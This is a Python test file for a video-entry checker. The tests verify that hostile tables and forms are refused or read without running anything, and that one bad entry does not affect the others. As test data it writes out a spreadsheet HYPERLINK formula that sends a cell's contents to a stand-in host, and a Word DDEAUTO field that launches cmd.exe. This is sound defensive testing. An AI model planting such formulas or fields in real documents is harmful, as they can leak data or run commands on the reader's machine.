"""Whatever a stranger sends as a table or beside a video is answered, and takes no other entry along."""

from __future__ import annotations

import json
from typing import TYPE_CHECKING

import pytest

from tests.clips import surgery
from tests.declared import tables
from tests.declared.documents.build import body, form, table_of, told
from tests.declared.documents.build import read_word as read
from tests.declared.documents.test_hostile import PDF, WORD
from tests.edition.build import rules_of
from vidcheck import check
from vidcheck.declared.tables.cells import ManifestError
from vidcheck.findings import Outcome, Verdict
from vidcheck.session import attachments, work  # noqa: F401 - loaded before any worker is forked

if TYPE_CHECKING:
    from pathlib import Path

WORDS = ("zip bomb", "broken XML", "encrypted", "300 columns")
"""Tables that are refused, one of each kind; more of them in `tables.HOSTILE`."""
ROW = ("作品名称", "主创人员（或单位）", "播出时间", "视频文件")


def entry(folder: Path, size: int) -> Path:
    """An entry's own folder, with a sound video."""
    folder.mkdir(parents=True)
    surgery.write_sparse(folder / "film.mp4", surgery.clip(), size)
    return folder


@pytest.mark.slow
def test_hostile_documents_beside_videos_are_faults_of_their_entries_alone(tmp_path: Path) -> None:
    hostile = {f"w{at:02}.docx": make for at, (make, _) in enumerate(WORD.values())}
    hostile |= {f"p{at:02}.pdf": make for at, (make, _) in enumerate(PDF.values())}
    for at, (name, make) in enumerate(hostile.items()):
        (entry(tmp_path / "in" / name[:3], 1_100_000 + at) / name).write_bytes(make())
    (entry(tmp_path / "in" / "good", 1_099_000) / "form.docx").write_bytes(form())
    secret = tmp_path / "secret.docx"
    secret.write_bytes(form({"作品名称": "不可读", "类别": "动画", "联系电话": "13812345678"}))
    (entry(tmp_path / "in" / "link", 1_099_001) / "form.docx").symlink_to(secret)
    rows = [{"编号": name[:3], "作品名称": name} for name in hostile]
    table = tmp_path / "entries.json"
    table.write_text(json.dumps([*rows, {"编号": "good"}, {"编号": "link", "作品名称": "灯"}]), encoding="utf-8")
    report = check([tmp_path / "in"], rules_of("b"), manifest=table, witness="mediainfo", workers=2)
    by_name = {one.entry.path.rsplit("/", 2)[1]: one for one in report.entries}
    unread = {name for name, one in by_name.items() if one.faults}
    # a text and a file of a kind that is never read are attachments like any other
    assert set(by_name) - unread == {"good", "link"} | {name[:3] for name in hostile if not _document(tmp_path, name)}
    assert {by_name[name].verdict for name in unread} == {Verdict.REVIEW}
    assert {finding.rule for finding in by_name["good"].failed} == {"broadcast", "completed"}  # of 2024
    of_link = {finding.rule: finding.outcome for finding in by_name["link"].findings}
    assert of_link["form"] is Outcome.FAIL
    assert of_link["telephone"] is Outcome.SKIP  # by if-unknown: nothing was read behind the link


def _document(root: Path, name: str) -> bool:
    from vidcheck.declared.documents import kinds

    path = root / "in" / name[:3] / name
    with path.open("rb") as file:
        return kinds.look(file, path.stat().st_size) in kinds.READ


@pytest.mark.parametrize("name", WORDS)
def test_a_hostile_table_is_refused_before_anything_is_checked(name: str, tmp_path: Path) -> None:
    entry(tmp_path / "in", 1_100_000)
    table = tmp_path / "entries.xlsx"
    table.write_bytes(tables.HOSTILE[name][0]())
    with pytest.raises(ManifestError, match=r"entries\.xlsx"):
        check([tmp_path / "in"], rules_of("a"), manifest=table, witness="mediainfo", workers=1)


def test_formulas_merged_cells_and_macros_in_a_table_run_nothing_and_lose_no_row(tmp_path: Path) -> None:
    for at, name in enumerate(("a", "b")):
        entry(tmp_path / "in" / name, 1_100_000 + at)
        (tmp_path / "in" / name / "film.mp4").rename(tmp_path / "in" / f"{name}.mp4")
        (tmp_path / "in" / name).rmdir()
    rows = [
        ROW, ("灯", "张三", "2021-01-01", "a.mp4"), ('=HYPERLINK("http://x.example/"&A1)', "", "=1+1", "b.mp4"),
    ]  # fmt: skip
    raw = tables.workbook(rows, change=lambda book: book.active.merge_cells("B2:B3"))
    table = tmp_path / "entries.xlsm"
    table.write_bytes(tables.rezipped(raw, {"xl/vbaProject.bin": b"not run"}))
    report = check([tmp_path / "in"], rules_of("a"), manifest=table, witness="mediainfo", workers=1)
    first, second = ({f.key: f for f in one.declared} for one in report.entries)
    assert [finding.rule for finding in report.batch if finding.rule == "manifest"] == []
    assert first["declared.authors"].value == second["declared.authors"].value == ("张三",)
    assert {second[key].state.value for key in ("declared.title", "declared.broadcast-date")} == {"unknown"}
    assert "formula" in second["declared.title"].note.render("en")  # type: ignore[union-attr]
    assert report.entries[1].verdict is Verdict.REVIEW


def test_formulas_and_merged_cells_in_a_form_are_read_as_they_are_shown() -> None:
    field = '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r>'
    end = '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    raw = table_of(("作品名称", "灯", ""), ("类别", "动画", ""), merge=[(0, 1, 0, 2), (1, 1, 1, 2)])
    assert told(read(body(raw, r"(<w:r>(?:(?!</w:r>).)*灯</w:t></w:r>)", rf"{field}\1{end}".replace("\\\\", "\\\\\\\\")))) == {
        "title": "灯", "category": "动画",
    }  # fmt: skip
